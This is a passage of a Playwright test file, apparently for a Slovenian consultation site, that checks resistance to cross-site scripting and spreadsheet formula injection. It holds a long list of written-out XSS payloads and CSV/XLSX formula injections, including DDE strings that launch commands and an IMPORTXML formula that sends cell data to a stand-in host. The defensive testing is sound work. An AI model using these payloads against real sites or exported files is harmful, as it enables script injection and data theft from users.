import { randomUUID } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { APIResponse, Browser, BrowserContext, Page } from '@playwright/test';
import { mailedLink } from '../support/mail.ts';
import { unzip as unzipFiles } from '../support/zip.ts';
import { expectNoAxeViolations } from './axe.ts';
import { baseURL, expect, mailDir, people, postForm, signIn, test } from './fixtures.ts';

/*
 * Cross-site scripting and spreadsheet formula injection, end to end.
 *
 * More than fifty hostile strings go in through every text field a person can fill — a comment's
 * body, proposed text and rationale (Občina Bled and ZMOS), a moderator's public response, internal
 * note and tags, and the name of a newly invited account — by real same-origin form posts. Every
 * page that shows them is then opened in Chromium with JavaScript on: no dialog may open, no
 * injected element or event handler may exist, no request may go to a payload's address, no
 * console error may speak of a blocked script, and the text must be there, as text. The open-data
 * JSON and CSV, the report's CSV and its XLSX must carry the same strings literally, with formulas
 * defused (CSV: a leading apostrophe; XLSX: text cells, no <f> element).
 *
 * The payloads are spread over the fields (every field gets at least five, every payload lands in
 * at least one), written once in beforeAll and then checked by the tests below, which run in order
 * in one worker (after a failure Playwright starts a new worker on the same database, whose beforeAll
 * reads what was written from a file next to it instead of writing it all again). A first test
 * shows that the checks do catch payloads rendered as HTML, so a pass means something. Comments
 * are written on chapters 3 and 9, at most two per block, and nothing else is written to the
 * worker's database while these tests run, so each block's chapter view (which shows the newest
 * three) shows them all.
 * Each page's check collects everything wrong with it and asserts once that nothing was found.
 */

/** What beforeAll wrote, next to the worker's database: a file in this directory. */
const SEED_FILE = 'xss-seed.json';

const CHAPTERS = ['digitalne-kompetence-in-vkljucenost', 'zeleni-prehod'] as const;
const COMMENT_COUNT = 16;
const NAME_COUNT = 5;

// ——— payloads ——————————————————————————————————————————————————————————————————————————————

type Field = 'body' | 'proposedText' | 'rationale' | 'response' | 'note' | 'tags' | 'name';
const FIELDS: Field[] = ['body', 'rationale', 'response', 'proposedText', 'note', 'name', 'tags'];
/** Fields that end up in the CSV and XLSX downloads. */
const SPREADSHEET_FIELDS: Field[] = ['body', 'proposedText', 'rationale', 'response'];
const MAX_LENGTH: Record<Field, number> = { body: 10_000, proposedText: 10_000, rationale: 5_000, response: 10_000, note: 5_000, tags: 40, name: 120 };
/** How many payloads a field can take at most (one per comment, one per account). */
const CAPACITY: Record<Field, number> = { body: COMMENT_COUNT, proposedText: 8, rationale: COMMENT_COUNT, response: COMMENT_COUNT, note: 20, tags: 8, name: NAME_COUNT };

interface Template {
  label: string;
  make: (m: string) => string;
  /** A spreadsheet formula: goes only into fields that reach the CSV/XLSX. */
  formula?: boolean;
  /** Fields it certainly goes into (besides wherever the spreading puts it). */
  into?: Field[];
}

const TEMPLATES: Template[] = [
  // <script>
  { label: 'script', make: (m) => `<script>alert('${m}')</script>` },
  { label: 'script src', make: (m) => `<SCRIPT SRC=//xss.example/${m}.js></SCRIPT>` },
  { label: 'script setting a flag', make: (m) => `<script>window.__xss='${m}'</script>` },
  { label: 'textarea breakout', make: (m) => `</textarea><script>alert('${m}')</script>`, into: ['response', 'note'] },
  { label: 'title breakout', make: (m) => `</title><script>alert('${m}')</script>` },
  { label: 'nested script', make: (m) => `<scr<script>ipt>alert('${m}')</scr</script>ipt>` },
  { label: 'comment breakout', make: (m) => `--><script>alert('${m}')</script><!--` },
  // <img onerror>
  { label: 'img onerror', make: (m) => `<img src=x onerror=alert('${m}')>` },
  { label: 'img onerror flag', make: (m) => `<img src="x" onerror="window.__xss='${m}'">` },
  { label: 'img unclosed mixed case', make: (m) => `<IMG SRC=x oNeRrOr=alert('${m}')//` },
  { label: 'img eval(src)', make: (m) => `<img src=x:alert(alt) onerror=eval(src) alt='${m}'>` },
  // <svg>
  { label: 'svg onload', make: (m) => `<svg onload=alert('${m}')>` },
  { label: 'svg script', make: (m) => `<svg><script>alert('${m}')</script></svg>` },
  { label: 'svg animate onbegin', make: (m) => `<svg><animate onbegin=alert('${m}') attributeName=x dur=1s>` },
  { label: 'svg xlink javascript', make: (m) => `<svg><a xlink:href="javascript:alert('${m}')"><text x="20" y="20">${m}</text></a></svg>` },
  // javascript: URLs
  { label: 'bare javascript: URL', make: (m) => `javascript:alert('${m}')` },
  { label: 'mixed-case javascript: URL', make: (m) => `JaVaScRiPt:alert('${m}')//` },
  { label: 'javascript: URL with a tab', make: (m) => `java\tscript:alert('${m}')` },
  { label: 'anchor with javascript:', make: (m) => `<a href="javascript:alert('${m}')">klikni ${m}</a>` },
  { label: 'anchor with entity-encoded javascript:', make: (m) => `<a href="&#106;avascript:alert('${m}')">${m}</a>` },
  // text the linkifier turns into links
  { label: 'URL then a script', make: (m) => `${m} https://x.example/"><script>alert('${m}')</script>` },
  { label: 'URL with a script in the query', make: (m) => `${m} http://a.b/?q=<script>alert('${m}')</script>` },
  { label: 'URL with a single-quoted handler', make: (m) => `${m} https://x.example/'onmouseover='alert(1)'` },
  { label: 'URL with javascript: in the path', make: (m) => `${m} https://x.example/javascript:alert('${m}')` },
  { label: 'URL with a double-quoted handler', make: (m) => `${m} http://x.example/#"onfocus="alert('${m}')" autofocus="` },
  { label: 'URL with backticks', make: (m) => `${m} https://x.example/\`onmouseover=alert(1)\`` },
  { label: 'URL percent-encoded script', make: (m) => `${m} https://x.example/%22%3E%3Cscript%3Ealert(1)%3C/script%3E` },
  { label: 'javascript: dressed as a URL', make: (m) => `${m} javascript://x.example/%0aalert(1) http://javascript:alert(1)@x.example/` },
  // attribute breakers
  { label: 'double quote then img', make: (m) => `"><img src=x onerror=alert('${m}')>` },
  { label: 'single quote then svg', make: (m) => `'><svg onload=alert('${m}')>` },
  { label: 'autofocus onfocus', make: (m) => `" autofocus onfocus="alert('${m}')` },
  { label: 'single-quoted onmouseover', make: (m) => `' onmouseover='alert("${m}")' x='` },
  { label: 'quote then iframe', make: (m) => `"/><iframe src="javascript:alert('${m}')">` },
  // template and markup metacharacters
  { label: 'mustache', make: (m) => `{{7*7}} ${m} {{constructor.constructor('alert(1)')()}}` },
  { label: 'JavaScript template', make: (m) => `\${7*7} ${m} \${alert('${m}')}` },
  { label: 'ERB', make: (m) => `<%= 7*7 %> ${m} <%- alert(1) %>` },
  { label: 'Svelte {@html}', make: (m) => `{@html '<img src=x onerror=alert(1)>'} ${m}` },
  { label: 'other template syntaxes', make: (m) => `#{7*7} [[7*7]] {{{html}}} {% raw %} ${m}` },
  // entity tricks
  { label: 'named entities', make: (m) => `&lt;script&gt;alert('${m}')&lt;/script&gt;` },
  { label: 'hex entities', make: (m) => `&#x3C;script&#x3E;alert('${m}')&#x3C;/script&#x3E;` },
  { label: 'decimal entities', make: (m) => `&#60;img src=x onerror=alert('${m}')&#62;` },
  { label: 'JavaScript escapes', make: (m) => `\\u003cscript\\u003ealert('${m}')\\u003c/script\\u003e` },
  { label: 'percent-encoded script', make: (m) => `%3Cscript%3Ealert('${m}')%3C%2Fscript%3E` },
  // CSS and style injection
  { label: 'style element', make: (m) => `<style>body{display:none}</style>${m}` },
  { label: 'style url(javascript:)', make: (m) => `<div style="background:url(javascript:alert('${m}'))">${m}</div>` },
  { label: 'overlay style', make: (m) => `<p style="position:fixed;inset:0;background:red" title="${m}">prekrivanje</p>` },
  { label: 'stylesheet link', make: (m) => `</style><link rel=stylesheet href=//xss.example/${m}.css>` },
  { label: 'CSS expression()', make: (m) => `<span style="width:expression(alert('${m}'))">${m}</span>` },
  // frames and plugins
  { label: 'iframe srcdoc', make: (m) => `<iframe srcdoc="<script>alert('${m}')</script>"></iframe>` },
  { label: 'iframe javascript:', make: (m) => `<iframe src=javascript:alert('${m}')>` },
  { label: 'object and embed', make: (m) => `<object data="javascript:alert('${m}')"></object><embed src=javascript:alert(1)>` },
  // MathML, details and friends
  { label: 'MathML mutation', make: (m) => `<math><mtext><table><mglyph><style><img src=x onerror=alert('${m}')>` },
  { label: 'details ontoggle', make: (m) => `<details open ontoggle=alert('${m}')>` },
  { label: 'marquee onstart', make: (m) => `<marquee onstart=alert('${m}')>${m}</marquee>` },
  { label: 'input autofocus', make: (m) => `<input autofocus onfocus=alert('${m}')>` },
  { label: 'form action javascript:', make: (m) => `<form action="javascript:alert('${m}')"><button>${m}</button></form>` },
  { label: 'meta refresh', make: (m) => `<meta http-equiv="refresh" content="0;url=javascript:alert('${m}')">` },
  { label: 'base href', make: (m) => `<base href="//xss.example/${m}/">` },
  { label: 'body onload', make: (m) => `<body onload=alert('${m}')>` },
  { label: 'bold', make: (m) => `<b>${m}</b>`, into: ['tags'] },
  // Unicode
  { label: 'RTL override', make: (m) => `${m} \u202Egnp.exe\u202C \u202E>tpircs/<)1(trela>tpircs<` },
  { label: 'fullwidth brackets', make: (m) => `${m} ＜script＞alert(1)＜/script＞` },
  { label: 'zero-width space, combining marks, emoji', make: (m) => `${m} <\u200Bscript>alert(1)</\u200Bscript> Z̸̢͎a̴l̷g̶o 🙂` },
  { label: 'line and paragraph separators', make: (m) => `${m}\u2028<img src=x onerror=alert(1)>\u2029konec` },
  { label: 'Hebrew letters', make: (m) => `${m} שלום עולם`, into: ['tags', 'name'] },
  { label: 'fullwidth letters', make: (m) => `${m} ｓｃｒｉｐｔ`, into: ['tags'] },
  // Not in the exported fields: the XLSX cannot hold U+FFFE/U+FFFF (its writer drops them), so the
  // report's CSV and XLSX would differ, which moderation.spec.ts compares.
  { label: 'noncharacters', make: (m) => `${m} \uFFFE\uFFFF <b>ne</b>`, into: ['note', 'name'] },
  // very long
  { label: 'very long', make: (m) => `${m} ${'<img src=x onerror=alert(1)>'.repeat(300)}` },
  // null-ish
  { label: 'NUL inside a tag', make: (m) => `${m} <scr\u0000ipt>alert(1)</scr\u0000ipt>`, into: ['body'] },
  { label: 'null words', make: (m) => `${m} null undefined NaN \\0 %00 \u0000` },
  { label: 'control characters', make: (m) => `${m} \u0001\u0008\u001B[31mrdeče\u001B[0m\u007F`, into: ['response'] },
  // spreadsheet formulas
  { label: '=HYPERLINK', formula: true, make: (m) => `=HYPERLINK("http://xss.example/${m}","klikni")` },
  { label: '+cmd DDE', formula: true, make: (m) => `+cmd|' /C calc'!A0 ${m}` },
  { label: '-2+3', formula: true, make: (m) => `-2+3 ${m}` },
  { label: '@SUM', formula: true, make: (m) => `@SUM(1,1)*cmd|' /C calc'!A0 ${m}` },
  { label: 'tab then =1+1', formula: true, make: (m) => `\t=1+1 ${m}` },
  { label: 'CR then =1+1', formula: true, make: (m) => `\r=1+1 ${m}` },
  { label: '=cmd DDE', formula: true, make: (m) => `=cmd|' /C notepad'!'A1' ${m}` },
  { label: '=IMPORTXML', formula: true, make: (m) => `=IMPORTXML(CONCAT("http://xss.example/?",A1),"//a") ${m}` },
];

interface Payload {
  n: number;
  label: string;
  marker: string;
  /** As posted. */
  raw: string;
  /** As the server stores it: line breaks as LF, control characters other than tab and LF dropped, trimmed. */
  stored: string;
  formula: boolean;
  into: Field[];
}

/** What the form handling does to every field (src/lib/server/forms.ts) plus the fields' trim(). */
function storedForm(text: string): string {
  return text
    .replace(/\r\n?/g, '\n')
    .replace(/[\u0000-\u0008\u000B-\u001F\u007F]/g, '')
    .trim();
}

function makePayloads(run: string): Payload[] {
  return TEMPLATES.map((t, i) => {
    const marker = `xss-${i + 1}-${run}`;
    const raw = t.make(marker);
    return { n: i + 1, label: t.label, marker, raw, stored: storedForm(raw), formula: !!t.formula, into: t.into ?? [] };
  });
}

function fits(p: Payload, field: Field): boolean {
  if (p.stored.length === 0 || p.stored.length > MAX_LENGTH[field]) return false;
  if (p.formula && !SPREADSHEET_FIELDS.includes(field)) return false;
  return true;
}

/**
 * Spreads the payloads over the fields: each payload goes to the first field (starting from a
 * different one for each) that fits it and has room; then every field is topped up to at least five
 * (the body to one per comment) with the least used payloads it does not have yet.
 */
function allocate(payloads: Payload[]): Record<Field, Payload[]> {
  const out = Object.fromEntries(FIELDS.map((f) => [f, [] as Payload[]])) as Record<Field, Payload[]>;
  const uses = new Map<Payload, number>(payloads.map((p) => [p, 0]));
  const put = (f: Field, p: Payload) => {
    out[f].push(p);
    uses.set(p, uses.get(p)! + 1);
  };
  for (const p of payloads) for (const f of p.into) if (fits(p, f)) put(f, p);
  // The most constrained first (formulas fit only the spreadsheet fields, the very long one only a few).
  const choices = (p: Payload) => FIELDS.filter((f) => fits(p, f)).length;
  const order = payloads.filter((p) => !p.into.length).sort((a, b) => choices(a) - choices(b));
  order.forEach((p, i) => {
    for (let k = 0; k < FIELDS.length; k++) {
      const f = FIELDS[(i + k) % FIELDS.length];
      if (out[f].length < CAPACITY[f] && fits(p, f)) {
        put(f, p);
        return;
      }
    }
  });
  for (const f of FIELDS) {
    const want = f === 'body' ? COMMENT_COUNT : 5;
    while (out[f].length < want) {
      const candidates = payloads.filter((p) => fits(p, f) && !out[f].includes(p)).sort((a, b) => uses.get(a)! - uses.get(b)!);
      if (!candidates.length) break;
      put(f, candidates[0]);
    }
  }
  return out;
}

// ——— the seeded data —————————————————————————————————————————————————————————————————————————

interface SeededComment {
  id: number;
  author: 'bled' | 'zmos';
  chapter: string;
  /** 1-based position in the chapter: the block page is /osnutek/<chapter>/<position>. */
  position: number;
  /** "3.1" */
  blockNumber: string;
  body: Payload;
  proposedText?: Payload;
  rationale?: Payload;
  response?: Payload;
  notes: Payload[];
  tags: string[];
}

type StorageState = Awaited<ReturnType<BrowserContext['storageState']>>;

interface NamedAccount {
  email: string;
  name: Payload;
  /** Signed in as this account. */
  state: StorageState;
}

interface Seeded {
  run: string;
  payloads: Payload[];
  fields: Record<Field, Payload[]>;
  comments: SeededComment[];
  accounts: NamedAccount[];
  /** Tag payloads the server refused (with 400), and those it kept. */
  refusedTags: Payload[];
  acceptedTags: Payload[];
  /** The tag every seeded comment gets, to filter the queue by. */
  plainTag: string;
  /** Signed-in sessions, for contexts of each test's own. */
  states: Record<'bled' | 'zmos' | 'moderator' | 'admin', StorageState>;
}

let seeded: Seeded;

// ——— helpers ———————————————————————————————————————————————————————————————————————————————

/** Everything but whitespace: paragraphs, line breaks and indentation do not matter. */
const squash = (s: string) => s.replace(/\s+/g, '');

/** What a CSV cell holds for a value: a formula-like start gets an apostrophe. */
const csvGuarded = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

async function signedInContext(browser: Browser, email: string): Promise<BrowserContext> {
  const context = await browser.newContext({ baseURL: baseURL() });
  const page = await context.newPage();
  await signIn(page, email);
  await page.close();
  return context;
}

/** A same-origin form post with the context's cookies, as the browser would send it. */
const post = postForm;

function expectRedirect(response: APIResponse, what: string): void {
  expect(response.status(), `${what}: status (location ${response.headers().location ?? '—'})`).toBe(303);
}

/** Občina Bled's id in the administrator's invitation form. */
async function bledOrganisationId(admin: BrowserContext): Promise<string> {
  const html = await (await admin.request.get('/admin')).text();
  const id = /<option value="(\d+)"[^>]*>\s*Občina Bled\s*<\/option>/.exec(html)?.[1];
  expect(id, 'Občina Bled in the invitation form on /admin').toBeTruthy();
  return id!;
}

async function invite(admin: BrowserContext, organisationId: string, email: string): Promise<string> {
  expectRedirect(await post(admin, '/admin', { intent: 'invite', email, organisationId, role: 'member' }), `inviting ${email}`);
  return mailedLink(mailDir(), email, 'povabilo');
}

// ——— watching a page ———————————————————————————————————————————————————————————————————————

interface Watched {
  page: Page;
  dialogs: string[];
  /** Console errors and uncaught exceptions that speak of scripts, and requests to payload addresses. */
  problems: string[];
}

const SUSPICIOUS_CONSOLE = /script|xss|alert|javascript:|eval|refused to (execute|load|frame|apply)|content security policy/i;

function watch(page: Page, run: string): Watched {
  const watched: Watched = { page, dialogs: [], problems: [] };
  page.on('dialog', async (dialog) => {
    watched.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    await dialog.dismiss().catch(() => {});
  });
  page.on('console', (message) => {
    if (message.type() === 'error' && SUSPICIOUS_CONSOLE.test(message.text())) watched.problems.push(`console: ${message.text()}`);
  });
  page.on('pageerror', (error) => watched.problems.push(`page error: ${error.message}`));
  page.on('request', (request) => {
    const url = request.url();
    // The test's own navigations carry the marker in filters and paths; nothing else may.
    const ours = request.isNavigationRequest() && request.frame() === page.mainFrame() && new URL(url).origin === new URL(baseURL()).origin;
    if (ours) return;
    let suspicious = url.includes(run) || /alert|javascript:/i.test(url);
    try {
      const { hostname, pathname, protocol } = new URL(url);
      suspicious ||= ['xss.example', 'x.example', 'a.b'].includes(hostname) || /\/x$/.test(pathname) || !/^(https?|data|blob):$/.test(protocol);
    } catch {
      suspicious = true;
    }
    if (suspicious) watched.problems.push(`request: ${request.method()} ${url}`);
  });
  return watched;
}

/** A page in a context of its own: anonymous, or signed in with a saved session. Close with close(w). */
async function watchedPage(browser: Browser, state?: StorageState): Promise<Watched> {
  const context = await browser.newContext({ baseURL: baseURL(), storageState: state });
  return watch(await context.newPage(), seeded.run);
}

async function close(w: Watched): Promise<void> {
  await w.page.context().close();
}

/**
 * Everything on the page that a payload could have become: elements that should never be there,
 * event handlers and script URLs, any attribute carrying the run's marker where no user text
 * belongs, a flag set by a payload's script.
 */
async function injectedThings(page: Page, run: string): Promise<string[]> {
  return page.evaluate((run) => {
    const found: string[] = [];
    const describe = (el: Element) => `<${el.localName}${[...el.attributes].map((a) => ` ${a.name}="${a.value.slice(0, 80)}"`).join('')}>`;
    const w = window as unknown as { __xss?: unknown };
    if (w.__xss !== undefined) found.push(`window.__xss was set to ${String(w.__xss)}`);
    const forbidden = new Set(['iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'marquee', 'math', 'mglyph', 'animate', 'portal']);
    const allowedCarriers = new Set(['value', 'aria-label', 'title', 'placeholder', 'alt', 'label']);
    const urlAttributes = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'srcdoc', 'background', 'poster', 'srcset', 'ping']);
    for (const el of document.querySelectorAll('*')) {
      const tag = el.localName;
      if (forbidden.has(tag)) found.push(`element ${describe(el)}`);
      if (tag === 'meta' && /refresh/i.test(el.getAttribute('http-equiv') ?? '')) found.push(`meta refresh ${describe(el)}`);
      if (tag === 'img' && /^x\b/.test(el.getAttribute('src') ?? '')) found.push(`img ${describe(el)}`);
      if (tag === 'script' && (/alert|__xss|xss/.test(el.textContent ?? '') || /xss/.test(el.getAttribute('src') ?? ''))) found.push(`script ${describe(el)} ${el.textContent?.slice(0, 80)}`);
      if (tag === 'style' && (el.textContent ?? '').includes(run)) found.push(`style element with the marker: ${el.textContent?.slice(0, 80)}`);
      if (tag === 'link' && /xss/.test(el.getAttribute('href') ?? '')) found.push(`link ${describe(el)}`);
      // Form controls inside a person's text can only come from a payload.
      if (['input', 'button', 'form', 'select', 'textarea'].includes(tag) && el.closest('.plain-text, .diff')) {
        found.push(`form control inside comment text ${describe(el)}`);
      }
      for (const attribute of el.attributes) {
        const name = attribute.name.toLowerCase();
        const value = attribute.value;
        if (name.startsWith('on')) {
          if (/alert|xss|eval|__xss/i.test(value) || value.includes(run)) found.push(`event handler ${name} on ${describe(el)}`);
          continue;
        }
        if (urlAttributes.has(name) && /^(javascript|vbscript|data:text\/html)/i.test(value.replace(/[\u0000-\u0020]/g, ''))) {
          found.push(`script URL in ${name} of ${describe(el)}`);
        }
        if (name === 'style' && /expression\(|javascript:|xss/i.test(value)) found.push(`style attribute ${describe(el)}`);
        if (!value.includes(run)) continue;
        if (allowedCarriers.has(name)) continue;
        if (name === 'content' && tag === 'meta' && !el.hasAttribute('http-equiv')) continue;
        if ((name === 'href' || name === 'action') && (tag === 'a' || tag === 'form')) {
          const url = new URL(value, location.href);
          if (url.protocol === 'http:' || url.protocol === 'https:') continue;
        }
        found.push(`attribute ${name} carries the marker on ${describe(el)}`);
      }
    }
    // Links the linkifier made: only http(s), never a script.
    for (const a of document.querySelectorAll('a[href]')) {
      const protocol = (a as HTMLAnchorElement).protocol;
      if (!['http:', 'https:', 'mailto:'].includes(protocol)) found.push(`link with ${protocol} ${describe(a)}`);
    }
    return found;
  }, run);
}

/**
 * The page's text as a reader gets it: text nodes outside script, style and form fields; in a
 * tracked-changes view only the proposed text (deletions and the screen-reader labels left out).
 */
async function readableText(page: Page): Promise<string> {
  return page.evaluate(() => {
    const skipped = (el: Element | null): boolean => {
      for (let e = el; e; e = e.parentElement) {
        if (['script', 'style', 'textarea', 'noscript', 'template', 'title', 'option', 'datalist'].includes(e.localName)) return true;
        if (e.closest('.diff') && (e.localName === 'del' || e.classList.contains('visually-hidden'))) return true;
      }
      return false;
    };
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    let text = '';
    for (let node = walker.nextNode(); node; node = walker.nextNode()) if (!skipped(node.parentElement)) text += node.nodeValue;
    return text;
  });
}

interface Expected {
  /** Texts that must be on the page in full. */
  full?: string[];
  /** Texts of which the page shows an excerpt: their first hundred characters must be there. */
  excerpt?: string[];
  /** A few texts that must be visible as one element's whole text (getByText, exact). */
  exact?: string[];
}

/** A short payload without line breaks or links: getByText with the exact string finds its paragraph. */
const simple = (s: string) => s.length < 200 && /^[\x21-\x7E]+( [\x21-\x7E]+)*$/.test(s) && !/https?:\/\//.test(s);

/**
 * Waits until whatever a payload could set off after load has had its chance: every image has
 * loaded or failed (onerror), then two frames and a task have passed (ontoggle, SVG onbegin).
 */
async function settled(page: Page): Promise<void> {
  await page.waitForLoadState('load');
  await page.waitForFunction(() => [...document.images].every((image) => image.complete));
  await page.evaluate(() => new Promise<void>((resolve) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(resolve, 0)))));
}

/**
 * Opens (or has opened) a page and checks it: no dialog, no problem, nothing injected, the texts
 * there. Everything wrong with the page is collected and asserted at once, so its report is whole.
 */
async function checkPage(w: Watched, where: string, expected: Expected = {}, open?: (page: Page) => Promise<void>): Promise<void> {
  const { page } = w;
  w.dialogs.length = 0;
  w.problems.length = 0;
  const found: string[] = [];
  if (open) await open(page);
  else {
    const status = (await page.goto(where))?.status();
    if (status !== 200) found.push(`status ${status}`);
  }
  await settled(page);
  found.push(...(await injectedThings(page, seeded.run)).map((f) => `injected: ${f}`));
  const text = squash(await readableText(page));
  const missing = [
    ...(expected.full ?? []).filter((s) => !text.includes(squash(s))),
    ...(expected.excerpt ?? []).filter((s) => !text.includes(squash(s.slice(0, 100)))),
  ];
  found.push(...missing.map((s) => `payload text missing (or altered): ${s.slice(0, 120)}`));
  for (const s of expected.exact ?? []) {
    if (!(await page.getByText(s, { exact: true }).first().isVisible())) found.push(`not shown as text: "${s}"`);
  }
  found.push(...w.dialogs.map((d) => `dialog opened: ${d}`));
  found.push(...w.problems.map((p) => `script error or payload request: ${p}`));
  expect(found, `what is wrong on ${where}`).toEqual([]);
}

/** The texts of a comment a public page shows (the rationale is not in the report). */
function publicTexts(c: SeededComment, { rationale = true } = {}): string[] {
  return [c.body, c.proposedText, rationale ? c.rationale : undefined, c.response].filter((p): p is Payload => !!p).map((p) => p.stored);
}

// ——— CSV and XLSX ——————————————————————————————————————————————————————————————————————————

/** RFC 4180 CSV with the given separator and the BOM dropped; remembers which cells were quoted. */
function parseCsv(text: string, separator: string): Array<Array<{ value: string; quoted: boolean }>> {
  const rows: Array<Array<{ value: string; quoted: boolean }>> = [];
  let row: Array<{ value: string; quoted: boolean }> = [];
  let cell = '';
  let quoted = false;
  let wasQuoted = false;
  const input = text.replace(/^\uFEFF/, '');
  const endCell = () => {
    row.push({ value: cell, quoted: wasQuoted });
    cell = '';
    wasQuoted = false;
  };
  for (let i = 0; i < input.length; i++) {
    const ch = input[i];
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (input[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (ch === '"') {
      quoted = true;
      wasQuoted = true;
    } else if (ch === separator) endCell();
    else if (ch === '\n') {
      endCell();
      rows.push(row);
      row = [];
    } else if (ch !== '\r') cell += ch;
  }
  if (cell !== '' || row.length > 0) {
    endCell();
    rows.push(row);
  }
  return rows;
}

function unzip(zip: Buffer): Map<string, string> {
  return new Map([...unzipFiles(zip)].map(([name, data]) => [name, data.toString('utf8')]));
}

const unescapeXml = (s: string) =>
  s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&#x([0-9a-f]+);/gi, (_, n: string) => String.fromCodePoint(parseInt(n, 16)))
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&amp;/g, '&');

interface XlsxCell {
  value: string;
  type: string;
  hasFormula: boolean;
}

/** The first sheet's rows (shared, inline and plain values, with each cell's type). */
function xlsxRows(files: Map<string, string>): XlsxCell[][] {
  const textOf = (fragment: string) => [...fragment.matchAll(/<t(?:\s[^>]*)?>([^<]*)<\/t>/g)].map((m) => unescapeXml(m[1])).join('');
  const shared = [...(files.get('xl/sharedStrings.xml') ?? '').matchAll(/<si>([\s\S]*?)<\/si>/g)].map((m) => textOf(m[1]));
  const sheet = files.get('xl/worksheets/sheet1.xml') ?? '';
  return [...sheet.matchAll(/<row[^>]*>([\s\S]*?)<\/row>/g)].map((row) => {
    const cells: XlsxCell[] = [];
    for (const c of row[1].matchAll(/<c\s([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const attributes = c[1];
      const inner = c[2] ?? '';
      const column = /r="([A-Z]+)\d+"/.exec(attributes)?.[1] ?? '';
      const index = [...column].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0) - 1;
      const value = /<v>([^<]*)<\/v>/.exec(inner)?.[1];
      const type = /\bt="(\w+)"/.exec(attributes)?.[1] ?? 'n';
      cells[index < 0 ? cells.length : index] = {
        value: type === 's' ? shared[Number(value)] : type === 'inlineStr' ? textOf(inner) : unescapeXml(value ?? ''),
        type,
        hasFormula: /<f[\s>/]/.test(inner),
      };
    }
    return Array.from(cells, (v) => v ?? { value: '', type: 'n', hasFormula: false });
  });
}

/**
 * A text as the XLSX can hold it: XML 1.0 forbids U+FFFE and U+FFFF and discourages C1 controls and
 * U+FDD0–U+FDEF, and the writer also drops U+FFFD; everything else is kept.
 */
const xlsxForm = (s: string) => s.replace(/[\u007F-\u0084\u0086-\u009F\uFDD0-\uFDEF\uFFFD\uFFFE\uFFFF]/g, '');

/** The ways an XML writer may escape text: & < > always, quotes perhaps. */
function xmlEscapings(s: string): string[] {
  const basic = s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  return [basic, basic.replace(/"/g, '&quot;'), basic.replace(/"/g, '&quot;').replace(/'/g, '&apos;'), basic.replace(/"/g, '&quot;').replace(/'/g, '&#39;')];
}

// ——— seeding ———————————————————————————————————————————————————————————————————————————————

async function seed(browser: Browser): Promise<Seeded> {
  const run = `${Date.now().toString(36).slice(-5)}${test.info().workerIndex}`;
  const payloads = makePayloads(run);
  const fields = allocate(payloads);
  const [bled, zmos, moderator, admin] = await Promise.all([people.bled, people.zmos, people.moderator, people.admin].map((email) => signedInContext(browser, email)));
  const anonymous = await browser.newContext({ baseURL: baseURL() });
  const opened = [bled, zmos, moderator, admin, anonymous];

  // Comments: two per block on blocks 1–4 of two chapters, Bled and ZMOS in turn.
  const drafts = Array.from({ length: COMMENT_COUNT }, (_, j) => ({
    author: (j % 2 === 0 ? 'bled' : 'zmos') as 'bled' | 'zmos',
    chapter: CHAPTERS[j < COMMENT_COUNT / 2 ? 0 : 1],
    position: Math.floor((j % (COMMENT_COUNT / 2)) / 2) + 1,
    body: fields.body[j],
    proposedText: fields.proposedText[j],
    rationale: fields.rationale[j],
    response: fields.response[j],
  }));
  for (const d of drafts) {
    const path = `/osnutek/${d.chapter}/${d.position}`;
    const form: Record<string, string> = {
      kind: d.proposedText ? 'amendment' : 'comment',
      body: d.body.raw,
      intent: 'submit',
      returnTo: path,
      idempotencyKey: randomUUID(),
    };
    if (d.proposedText) form.proposedText = d.proposedText.raw;
    if (d.rationale) form.rationale = d.rationale.raw;
    const response = await post(d.author === 'bled' ? bled : zmos, path, form);
    expectRedirect(response, `submitting "${d.body.label}" on ${path}`);
    expect(response.headers().location).toBe(`${path}?sporocilo=pripomba-oddana`);
  }
  const api: Array<{ id: number; body: string; block: string }> = await (await anonymous.request.get('/api/v1/comments')).json();
  const comments: SeededComment[] = drafts.map((d) => {
    const found = api.filter((c) => c.body === d.body.stored);
    expect(found, `the comment with "${d.body.label}" is public, once`).toHaveLength(1);
    return { ...d, id: found[0].id, blockNumber: found[0].block, notes: [], tags: [] };
  });

  // The moderator answers, notes and tags.
  const statuses = ['rejected', 'noted', 'partially_accepted'];
  await Promise.all(
    comments.map(async (c, j) => {
      const path = `/moderacija/pripombe/${c.id}`;
      if (c.response) expectRedirect(await post(moderator, path, { intent: 'decide', status: statuses[j % statuses.length], response: c.response.raw }), `response on ${c.id}`);
    }),
  );
  fields.note.forEach((p, k) => comments[k % 4].notes.push(p));
  for (const c of comments.slice(0, 4)) {
    for (const note of c.notes) expectRedirect(await post(moderator, `/moderacija/pripombe/${c.id}`, { intent: 'note', note: note.raw }), `note "${note.label}" on ${c.id}`);
  }
  // Each tag payload is tried alone (a tag list is comma-separated and replaced as a whole).
  const plainTag = `oznaka-${run}`;
  const refusedTags: Payload[] = [];
  const acceptedTags: Payload[] = [];
  const tagged = comments[0];
  for (const p of fields.tags) {
    const response = await post(moderator, `/moderacija/pripombe/${tagged.id}`, { intent: 'tags', tags: p.raw });
    expect([303, 400], `tag "${p.label}": stored (303) or refused (400)`).toContain(response.status());
    (response.status() === 303 ? acceptedTags : refusedTags).push(p);
  }
  tagged.tags = [plainTag, ...acceptedTags.map((p) => p.stored)];
  expectRedirect(await post(moderator, `/moderacija/pripombe/${tagged.id}`, { intent: 'tags', tags: tagged.tags.join(', ') }), 'the final tags');
  for (const c of comments.slice(1)) {
    c.tags = [plainTag];
